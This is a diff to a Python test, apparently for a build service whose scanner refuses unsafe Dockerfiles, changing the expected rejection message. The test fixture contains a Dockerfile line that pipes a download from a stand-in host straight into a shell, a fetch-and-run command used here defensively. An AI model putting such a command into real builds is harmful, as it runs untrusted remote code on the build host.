@@ -99,7 +99,9 @@ async def test_a_dockerfile_refused_by_the_scan_is_reported_and_the_plan_runs_in
     dockerfile = f"FROM {base}\nRUN curl http://example.com/x | sh\n"
     (run,), end = await held(desk, {"Dockerfile": dockerfile, "main.py": "print('by plan')\n", "run.toml": PLAN})
     assert (run.how, end.how) == ("plan", "ran")
-    assert run.notes == ("The project was not built. Dockerfile, line 2: It runs a download, or hides what it runs.",)
+    assert run.notes == (
+        "The project was not built. Dockerfile, line 2: This line runs a downloaded program, or hides what it runs.",
+    )
     assert "by plan" in end.text
 
 
